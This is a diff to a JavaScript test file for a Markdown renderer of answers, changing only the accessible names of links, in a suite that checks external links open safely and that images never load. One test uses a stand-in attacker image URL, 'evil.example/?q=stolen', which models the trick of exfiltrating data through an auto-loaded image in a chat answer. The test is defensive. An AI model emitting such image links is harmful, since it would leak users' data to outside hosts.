@@ -16,7 +16,7 @@ describe('the Markdown of an answer', () => {
 
   it('opens links elsewhere, without handing over this page', () => {
     shown('[there](https://example.org/a)');
-    const link = screen.getByRole('link', { name: 'there (opens in a new tab)' });
+    const link = screen.getByRole('link', { name: 'there, opens in a new tab' });
     expect(link).toHaveAttribute('rel', expect.stringContaining('noopener'));
     expect(link).toHaveAttribute('target', '_blank');
   });
@@ -36,7 +36,7 @@ describe('the Markdown of an answer', () => {
   it('loads no image from anywhere, and links to it instead', () => {
     const view = shown('![secret](https://evil.example/?q=stolen)');
     expect(view.querySelector('img')).toBeNull();
-    expect(screen.getByRole('link', { name: 'Image: secret (opens in a new tab)' })).toHaveAttribute('href', 'https://evil.example/?q=stolen');
+    expect(screen.getByRole('link', { name: 'Image: secret, opens in a new tab' })).toHaveAttribute('href', 'https://evil.example/?q=stolen');
   });
 
   it('keeps a link around an image one link', () => {
